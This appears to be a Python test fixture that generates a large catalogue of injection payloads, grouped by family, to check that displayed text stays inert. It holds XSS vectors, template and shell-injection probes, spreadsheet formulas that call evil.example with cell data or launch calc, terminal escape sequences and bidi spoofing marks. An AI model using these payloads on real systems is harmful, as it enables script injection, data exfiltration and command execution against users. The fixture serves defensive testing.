"""Texts that try to become more than text, wherever they are shown: some eight hundred, by family.

Each HTML payload tells on itself: what runs calls `alert`, or sets `window.ran`.
"""

from collections.abc import Iterator, Mapping
from itertools import product

RUN = ("alert(1)", "window.ran=1", "(0,eval)('window.ran=1')", "alert`1`")

BREAKOUTS = (
    "", "'>", '">', "'\">", "-->", "]]>", "</title>", "</textarea>", "</style>", "</script>",
    "</svg>", "</td></table>",
)  # fmt: skip
"""What ends the place a text stands in."""

ELEMENTS = (
    "<script>{run}</script>",
    "<ScRiPt>{run}</sCrIpT>",
    "<script/x>{run}</script>",
    "<script\n>{run}</script\n>",
    "<<script>{run}//<</script>",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:text/javascript,{run}></script>",
    "<img src=x onerror={run}>",
    "<img/src=x/onerror={run}>",
    "<IMG SRC=x OnErRoR={run}>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><a xlink:href=javascript:{run}><text>x</text></a></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><use href=data:image/svg+xml,x#x>",
    "<math><mtext><mglyph><style><img src=x onerror={run}>",
    "<iframe src=javascript:{run}>",
    '<iframe srcdoc="<script>{run}</script>">',
    "<object data=javascript:{run}>",
    "<embed src=javascript:{run}>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=javascript:{run}>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=javascript:{run}><button>x</button></form>",
    "<input autofocus onfocus={run}>",
    "<details open ontoggle={run}>",
    "<video><source onerror={run}></video>",
    "<body onload={run}>",
    "<a href=javascript:{run}>x</a>",
    "<template><script>{run}</script></template>",
    '<noscript><p title="</noscript><img src=x onerror={run}>">',
    "<!--><img src=x onerror={run}>-->",
    "<plaintext>",
    "<style>*{{background:url(javascript:{run})}}</style>",
    "<style>@import '//evil.example/x.css';</style>",
)  # fmt: skip

HANDLERS = ("onclick", "onmouseover", "onfocus", "onerror", "onload", "ontoggle", "onpointerenter",
            "onanimationstart", "onbeforetoggle", "style", "formaction", "srcdoc")  # fmt: skip
QUOTES = ('"', "'", "`", "")

SCHEMES = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    " javascript:{run}",
    "java\tscript:{run}",
    "java\nscript:{run}",
    "\x01javascript:{run}",
    "javascript&colon;{run}",
    "&#106;avascript:{run}",
    "javascript://%0a{run}",
    "vbscript:{run}",
    "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "blob:https://evil.example/x",
    "//evil.example/{run}",
    "\\\\evil.example\\{run}",
    "https:evil.example",
    "view-source:javascript:{run}",
)

STYLES = (
    "expression({run})",
    "background:url(javascript:{run})",
    "}}*{{background:url(//evil.example)}}",
    "</style><script>{run}</script>",
    "@import url(//evil.example/x.css);",
    "-moz-binding:url(//evil.example/x.xml#x)",
    "color:red;behavior:url(x.htc)",
)

TEMPLATES = (
    "{{{{ 7*7 }}}}", "{{% for x in range(9) %}}x{{% endfor %}}", "{{# gone #}}",
    "{{{{ config }}}}", "{{{{ ''.__class__.__mro__ }}}}", "${{7*7}}", "${{{run}}}", "#{{7*7}}",
    "<%= 7*7 %>", "{{{{constructor.constructor('{run}')()}}}}", "[[${{7*7}}]]", "@(7*7)", "%(x)s",
    "{{0.__class__}}", "%s%n%x", "$(id)", "`id`", "; id", "| id", "&& id",
    "[panel] You will get 1,000,000.00 EUR", "a\n\n[panel] b", "a\n\n[items]\n\n[said] b",
)  # fmt: skip

ENTITIES = (
    "&lt;script&gt;{run}&lt;/script&gt;", "&#60;script&#62;{run}&#60;/script&#62;",
    "&#x3c;img src=x onerror={run}&#x3e;", "%3Cscript%3E{run}%3C/script%3E",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e", "\\x3cscript\\x3e{run}",
    "\uff1cscript\uff1e{run}\uff1c/script\uff1e", "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "&", "&amp", "&nosuch;", "&#0;", "&#x110000;", "\u2028{run}", "\u2029{run}",
)  # fmt: skip

FORMULAS = tuple(
    before + sign + formula
    for before, sign, formula in product(
        ("", " ", "   "),
        ("=", "+", "-", "@", "\t=", "\r=", "\n="),
        (
            "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("//evil.example?"&A1;"x")', "SUM(1;1)",
            'IMPORTXML(CONCAT("//evil.example/";A1);"//a")',
        ),
    )
)  # fmt: skip

ESCAPES = (
    "\x1b[31mred", "\x1b[2J\x1b[H", "\x1b[1A\x1b[2K", "\x1b]0;title\x07", "\x1b]0;title\x1b\\",
    "\x1b]8;;https://evil.example\x1b\\x\x1b]8;;\x1b\\", "\x1b]52;c;ZXZpbA==\x07",
    "\x1b]1337;File=name=eA==:x\x07", "\x1bP$q\x1b\\", "\x1b[6n", "\x1b[c", "\x1b[5i",
    "\x1b[?1049h", "\x1b[8m", "\x1b(0", "\x1bc", "\x9b31m", "\x9d0;title\x9c", "\x90q\x9c",
    "\x07", "\x08\x08\x08", "\r overwritten", "\x0b", "\x0c", "\x0e", "\x0f", "\x18", "\x1a",
    "\x7f", "\x85", "\x00", "a\x00b", "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "[link=https://evil.example]x[/link]", "[/]", "[/red]", "[bold red]✓[/] All books agree.",
    "[@click=app.bell]x[/]", "[blink]", "\\[red]", "[", "[]", ":warning:",
)  # fmt: skip

DIRECTIONS = tuple(
    f"{mark}{text}"
    for mark, text in product(
        "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c\ufeff\u200b",
        ("gnp.exe", "0001 EUR", "a\u202c b"),
    )
)

LONG = (
    "x" * 10_000, "<" * 10_000, "&" * 10_000, "\u0301" * 5_000, "<b>" * 2_000, "[" * 5_000,
    "{{" * 2_000, "\U0001f4a3" * 2_000,
)  # fmt: skip
"""Longer than any field; cut where a field is checked."""


def _markup() -> Iterator[str]:
    for number, (breakout, element) in enumerate(product(BREAKOUTS, ELEMENTS)):
        yield breakout + element.format(run=RUN[number % len(RUN)])
    for quote, handler in product(QUOTES, HANDLERS):
        for run in RUN[:2]:
            yield f"x{quote} {handler}={quote}{run}{quote} x={quote}"
    for text in (*SCHEMES, *STYLES, *TEMPLATES, *ENTITIES):
        yield from (text.format(run=run) for run in RUN[:2])


FAMILIES: Mapping[str, tuple[str, ...]] = {
    "markup": tuple(dict.fromkeys(_markup())),
    "formulas": FORMULAS,
    "escapes": ESCAPES,
    "directions": DIRECTIONS,
    "long": LONG,
}
"""By what they attack."""

PAYLOADS = tuple(dict.fromkeys(text for family in FAMILIES.values() for text in family))
"""Every one, once."""

NEUTRAL = "plain words"
"""What a field holds that attacks nobody."""
